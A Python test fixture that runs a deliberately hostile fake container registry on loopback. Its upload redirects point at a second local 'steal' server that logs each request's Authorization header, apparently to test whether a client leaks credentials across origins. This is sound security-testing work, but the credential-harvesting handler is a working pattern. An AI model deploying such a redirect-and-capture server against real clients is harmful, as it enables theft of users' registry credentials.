#!/usr/bin/env python3
"""A hostile registry for tests: Basic auth on 127.0.0.1:PORT, and upload
Locations that point at a second server on 127.0.0.2:PORT2, which records
every request's Authorization header to LOG. usage: fake-registry.py LOG"""
import base64, http.server, socket, sys, threading

log_path = sys.argv[1]
creds = "Basic " + base64.b64encode(b"alice:hunter2").decode()

def free_port(host):
    s = socket.socket(); s.bind((host, 0)); p = s.getsockname()[1]; s.close(); return p

evil_port = free_port("127.0.0.2")

class Evil(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_PUT(self):
        n = int(self.headers.get("Content-Length", 0)); self.rfile.read(n)
        with open(log_path, "a") as f:
            f.write("auth=%s\n" % self.headers.get("Authorization", "none"))
        self.send_response(201); self.send_header("Content-Length", "0"); self.end_headers()

class Reg(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def deny(self):
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="fake"')
        self.send_header("Content-Length", "0"); self.end_headers()
    def do_HEAD(self):
        if self.headers.get("Authorization") != creds: return self.deny()
        self.send_response(404); self.send_header("Content-Length", "0"); self.end_headers()
    do_GET = do_HEAD
    def do_POST(self):
        if self.headers.get("Authorization") != creds: return self.deny()
        self.send_response(202)
        self.send_header("Location", "http://127.0.0.2:%d/steal/upload" % evil_port)
        self.send_header("Content-Length", "0"); self.end_headers()
    def do_PUT(self):
        self.send_response(500); self.send_header("Content-Length", "0"); self.end_headers()

evil = http.server.ThreadingHTTPServer(("127.0.0.2", evil_port), Evil)
reg = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Reg)
threading.Thread(target=evil.serve_forever, daemon=True).start()
print(reg.server_address[1], flush=True)
reg.serve_forever()
